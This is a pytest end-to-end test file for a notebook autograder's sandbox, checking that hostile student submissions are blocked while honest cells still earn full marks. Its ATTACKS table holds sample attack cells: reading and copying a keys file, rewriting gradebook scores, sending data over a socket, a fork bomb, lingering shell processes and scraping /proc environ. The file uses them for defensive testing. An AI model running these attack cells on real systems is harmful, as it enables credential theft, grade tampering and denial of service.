"""End to end: a hostile class graded by `sim grade autograde` with real nbgrader, real kernels and a
real bubblewrap sandbox. Each hostile student hands in the honest worked solution with an attack in
front of it; every attack must be blocked and reported, the honest cells must still earn full marks,
and the course, the gradebook and the machine must be as they were (grades aside)."""
from __future__ import annotations

import hashlib
import json
import os
import socket
import sqlite3
import sys
import threading
import uuid
from pathlib import Path

import pytest

import sim
import sim.grading.student
from sim.cli import main
from sim.grading.course import load_course
from sim.grading.sandbox import bytecode
from sim.grading.simulate import write_submission
from test_grading_e2e import A1, AUTO_MAX, copy_course

pytestmark = [pytest.mark.slow, pytest.mark.nbgrader]
TOKEN = f"simtoken{uuid.uuid4().hex[:12]}"  # marks the processes an attack leaves behind

# student -> (attack cell source, what the summary must say was blocked). {port}, {stolen}, {token}
# are filled in; paths are relative to the folder nbgrader runs the notebook in
# (autograded/<student>/<assignment>), as a student who knows nbgrader's layout would write them.
ATTACKS: dict[str, tuple[str, str]] = {
    "s_keys": ("print(open('../../../keys.yaml').read())\n"
               "import glob\nfor p in glob.glob('../../../source/*/*.ipynb'):\n    print(open(p).read())",
               "tried to read outside its submission (/"),
    "s_steal": ("import shutil\ntry:\n    shutil.copy('../../../keys.yaml', {stolen!r})\nexcept OSError as e:\n"
                "    print('no', e)\nopen({stolen!r}, 'w').write('stolen')", "tried to write outside its scratch"),
    "s_classmate": ("print(open('../../s_honest/a1_assessment/a1_assessment.ipynb').read())\n"
                    "print(open('../../../submitted/s_honest/a1_assessment/a1_assessment.ipynb').read())",
                    "tried to read outside its submission"),
    "s_gradebook": ("import sqlite3\ndb = sqlite3.connect('../../../gradebook.db')\n"
                    "db.execute('create table pwned (x)')\ndb.execute('update grade set manual_score = 100')\n"
                    "db.commit()", "tried to write outside its scratch"),
    "s_package": ("import pathlib, sim\ntry:\n"
                  "    (pathlib.Path(sim.__file__).parent / 'pwned.py').write_text('x = 1')\n"
                  "except OSError as e:\n    print(e)\nopen('../../../nbgrader_config.py', 'a').write('# pwned')",
                  "tried to write outside its scratch"),
    "s_network": ("import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=3)\ns.sendall(b'keys')",
                  "tried to open a network connection (127.0.0.1:"),
    "s_lingers": ("import subprocess\nsubprocess.Popen(['/bin/sh', '-c', 'sleep 3600; echo {token}'])",
                  "process(es) running after the notebook; all ended with the sandbox"),
    "s_memory": ("x = bytearray(6 * 2 ** 30)\nx[::4096] = b'x' * len(x[::4096])", "hit the memory limit (2048 MiB)"),
    "s_forkbomb": ("import os\nwhile True:\n    os.fork()", "hit the process limit"),
    "s_bigfile": ("with open('big.bin', 'wb') as f:\n    f.write(b'x' * 100 * 2 ** 20)", "hit the file size limit"),
    "s_proc": ("import os\nfor pid in [os.environ.get('JPY_PARENT_PID', '1'), str(os.getppid()), '1']:\n"
               "    print(open(f'/proc/{{pid}}/environ').read())\n"
               "for p in os.listdir('/proc'):\n    if p.isdigit():\n"
               "        print(p, open(f'/proc/{{p}}/cmdline').read())",
               "tried to read other processes' /proc"),
    "s_setsid": ("import os\nif os.fork() == 0:\n    os.setsid()\n"
                 "    os.execv('/bin/sh', ['/bin/sh', '-c', 'sleep 3600; echo {token}-setsid'])",
                 "process(es) running after the notebook; all ended with the sandbox"),
}


def _with_attack(path: Path, code: str, before: str | None = None) -> None:
    """Put a code cell in front of the first answer cell (or of the cell with grade id ``before``)."""
    nb = json.loads(path.read_text())
    first_answer = next(i for i, c in enumerate(nb["cells"])
                        if c.get("metadata", {}).get("nbgrader", {}).get("solution") and c["cell_type"] == "code"
                        and before in (None, c["metadata"]["nbgrader"].get("grade_id")))
    nb["cells"].insert(first_answer, {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
                                      "source": code})
    path.write_text(json.dumps(nb, indent=1))


def _digest(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file() and "__pycache__" not in p.parts}


def _tables(db: Path) -> list[str]:
    with sqlite3.connect(db) as con:
        return sorted(r[0] for r in con.execute("select name from sqlite_master where type = 'table'"))


def _token_processes() -> list[str]:
    found = []
    for entry in os.listdir("/proc"):
        try:
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
        except OSError:
            continue
        if TOKEN.encode() in cmdline:
            found.append(cmdline.replace(b"\0", b" ").decode())
    return found


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = copy_course(tmp_path_factory.mktemp("course") / "course")
    outside = tmp_path_factory.mktemp("outside")
    assert main(["grade", "--course", str(root), "generate", A1]) == 0
    course = load_course(root)
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    accepted: list[bytes] = []

    def serve() -> None:
        listener.settimeout(0.5)
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            accepted.append(conn.recv(100))
            conn.close()

    stop = threading.Event()
    server = threading.Thread(target=serve, daemon=True)
    server.start()
    honest = write_submission(course, A1, "s_honest", "full")
    nb = json.loads(honest.read_text())  # a line only the honest student's notebook has
    nb["cells"].append({"cell_type": "markdown", "metadata": {}, "source": f"my own notes {TOKEN}-notes"})
    honest.write_text(json.dumps(nb, indent=1))
    for student, (code, _) in ATTACKS.items():
        path = write_submission(course, A1, student, "full")
        _with_attack(path, code.format(port=port, stolen=str(outside / f"{student}.yaml"), token=TOKEN))
    os.environ["SIM_TEST_GRADER_SECRET"] = f"{TOKEN}-env"  # in the grader's environment, never a kernel's
    saved_cache = os.environ.get("XDG_CACHE_HOME")
    os.environ["XDG_CACHE_HOME"] = str(tmp_path_factory.mktemp("cache"))  # the bytecode cache, fresh
    sim_dir = Path(sim.__file__).parent
    before = {"course": _digest(root), "sim": _digest(sim_dir), "tables": _tables(root / "gradebook.db")}
    try:
        code = main(["grade", "--course", str(root), "autograde", A1, "--jobs", "2", "--timeout", "20", "--quiet"])
    finally:
        os.environ.pop("SIM_TEST_GRADER_SECRET", None)
        cache = bytecode.cache_folder()
        if saved_cache is None:
            os.environ.pop("XDG_CACHE_HOME")
        else:
            os.environ["XDG_CACHE_HOME"] = saved_cache
        stop.set()
        server.join()
        listener.close()
    assert code == 0
    report = {r["student"]: r for r in json.loads((root / "reports" / f"autograde_{A1}.json").read_text())}
    after = {"course": _digest(root), "sim": _digest(sim_dir), "tables": _tables(root / "gradebook.db")}
    return course, report, before, after, outside, accepted, cache


def test_every_attack_is_blocked_and_named(hostile):
    _, report, *_ = hostile
    for student, (_, needle) in ATTACKS.items():
        assert any(needle in line for line in report[student]["blocked"]), (student, report[student]["blocked"])
    assert report["s_honest"]["blocked"] == [] and report["s_honest"]["problems"] == []


def test_a_fork_bomb_is_stopped_with_the_cell_that_hit_the_limit(hostile):
    """The fork bomb's copies end with its cell, so none is left for the end of the notebook."""
    _, report, *_ = hostile
    assert not any("running after the notebook" in line for line in report["s_forkbomb"]["blocked"]), \
        report["s_forkbomb"]["blocked"]


def test_honest_cells_of_every_hostile_notebook_still_earn_full_marks(hostile):
    _, report, *_ = hostile
    for student in ["s_honest", *ATTACKS]:
        assert report[student]["score"] == pytest.approx(AUTO_MAX), (student, report[student])


def test_no_secret_reaches_the_executed_notebooks(hostile):
    course, *_ = hostile
    keys = [line.strip() for line in (course.root / "keys.yaml").read_text().splitlines()
            if len(line.strip()) > 25 and not line.strip().startswith("#")]
    assert keys
    for student in ATTACKS:
        nb = json.loads((course.root / "autograded" / student / A1 / f"{A1}.ipynb").read_text())
        text = json.dumps([c.get("outputs", []) for c in nb["cells"]])  # what its code printed
        assert "BEGIN HIDDEN TESTS" not in text and f"{TOKEN}-env" not in text, student  # no grader environ
        assert not any(line in text for line in keys), student
        assert f"{TOKEN}-notes" not in text, student  # the classmate's notebook


def test_course_package_and_gradebook_schema_unchanged(hostile):
    course, _, before, after, outside, *_ = hostile
    assert after["sim"] == before["sim"]
    assert after["tables"] == before["tables"] and "pwned" not in after["tables"]
    for name in ("keys.yaml", "nbgrader_config.py", "course.yaml"):
        assert after["course"][name] == before["course"][name], name
    changed = {k for k in set(before["course"]) | set(after["course"])
               if before["course"].get(k) != after["course"].get(k)}
    assert {k.split("/")[0] for k in changed} <= {"gradebook.db", "autograded", "reports", "submitted"}
    assert not any(k.startswith("submitted") and before["course"].get(k) != after["course"].get(k)
                   for k in changed if k in before["course"])
    with sqlite3.connect(course.root / "gradebook.db") as con:
        assert con.execute("select count(*) from grade where manual_score is not null").fetchone()[0] == 0
    assert list(outside.iterdir()) == []  # nothing was copied out


def test_no_connection_reached_the_host_and_no_process_outlived_grading(hostile):
    *_, accepted, _ = hostile
    assert accepted == []
    assert _token_processes() == []


def test_kernels_read_bytecode_the_grader_compiled_and_could_not_change_it(hostile):
    *_, cache = hostile
    student = Path(sim.grading.student.__file__).resolve()
    pyc = cache / student.relative_to("/").parent / f"student.{sys.implementation.cache_tag}.pyc"
    assert pyc.is_file()  # compiled by the warm-up, outside the sandbox
    assert not list(cache.rglob("pwned*"))


# student -> (cells put in front of the honest solution, what the summary must say). The course's
# course.yaml sets the limits low, so that each is reached in seconds.
LIMITS = {"memory_mib": 512, "cpu_seconds": 6, "wall_seconds": 25}
OVER_LIMITS: dict[str, tuple[list[str], str]] = {
    "s_cpu": (["while True:\n    pass"], "hit the CPU time limit (6 s); the cell running then was stopped"),
    "s_mem": (["x = bytearray(1024 * 2 ** 20)"], "hit the memory limit (512 MiB)"),
    "s_wall": ([f"import subprocess\nsubprocess.Popen(['/bin/sh', '-c', 'sleep 3600; echo {TOKEN}-wall'])",
                *["import time\ntime.sleep(20)"] * 3], "ran past the wall-clock limit (25 s per notebook)"),
}
# A student whose notebook is stopped by the wall clock after the first four tests (4 of the 7 points) ran.
SLOW_BEFORE_NEEDS = ["import time\ntime.sleep(20)"] * 3


@pytest.fixture(scope="module")
def over_limits(tmp_path_factory):
    root = copy_course(tmp_path_factory.mktemp("course") / "course")
    course_yaml = root / "course.yaml"
    course_yaml.write_text(course_yaml.read_text() + "sandbox:\n"
                           + "".join(f"  {k}: {v}\n" for k, v in LIMITS.items()))
    course = load_course(root)
    assert course.sandbox.model_dump() | LIMITS == course.sandbox.model_dump()
    assert main(["grade", "--course", str(root), "generate", A1]) == 0
    write_submission(course, A1, "s_honest", "full")
    for student, (cells, _) in OVER_LIMITS.items():
        path = write_submission(course, A1, student, "full")
        for code in reversed(cells):
            _with_attack(path, code)
    path = write_submission(course, A1, "s_wall_late", "full")
    for code in SLOW_BEFORE_NEEDS:
        _with_attack(path, code, before="a1_needs_identified_answer")
    # a per-cell timeout longer than the sandbox's limits, so that the sandbox is what stops each one
    code = main(["grade", "--course", str(root), "autograde", A1, "--jobs", "2", "--timeout", "60", "--quiet"])
    assert code == 0
    report = {r["student"]: r for r in json.loads((root / "reports" / f"autograde_{A1}.json").read_text())}
    return {**report, "_root": str(root)}


def test_limits_from_course_yaml_stop_cpu_memory_and_wall_clock_and_are_named(over_limits):
    for student, (_, needle) in OVER_LIMITS.items():
        assert any(needle in line for line in over_limits[student]["blocked"]), (student, over_limits[student])
    assert over_limits["s_honest"]["blocked"] == [] and over_limits["s_honest"]["score"] == pytest.approx(AUTO_MAX)


def test_a_cell_stopped_for_cpu_or_memory_leaves_the_honest_cells_to_grade(over_limits):
    for student in ("s_cpu", "s_mem"):
        assert over_limits[student]["score"] == pytest.approx(AUTO_MAX), over_limits[student]


def test_a_notebook_stopped_by_the_wall_clock_is_graded_on_the_cells_that_ran_and_leaves_nothing_running(
        over_limits):
    wall, late = over_limits["s_wall"], over_limits["s_wall_late"]
    assert wall["problems"] == [] and wall["score"] == 0, wall  # stopped before any answer ran
    assert late["problems"] == [] and late["score"] == pytest.approx(4.0), late  # the first four tests ran
    assert any("ran past the wall-clock limit" in line for line in late["blocked"]), late
    assert _token_processes() == []


def test_cells_the_wall_clock_stopped_say_so_in_the_graded_notebook(over_limits):
    root = Path(over_limits["_root"])
    nb = json.loads((root / "autograded" / "s_wall_late" / A1 / f"{A1}.ipynb").read_text())
    code = [c for c in nb["cells"] if c["cell_type"] == "code"]
    marked = [c for c in code if any(o.get("ename") == "WallClockLimit" for o in c.get("outputs", []))]
    ids = [c["metadata"].get("nbgrader", {}).get("grade_id") for c in marked]
    assert ids[-2:] == ["a1_needs_identified_answer", "a1_needs_identified"], ids
    assert "while this cell ran" in json.dumps(marked[0]["outputs"])  # the sleep the clock stopped
    assert all("before this cell could run" in json.dumps(c["outputs"]) for c in marked[1:])
    assert not any("WallClockLimit" in json.dumps(c.get("outputs", [])) for c in code[:code.index(marked[0])])
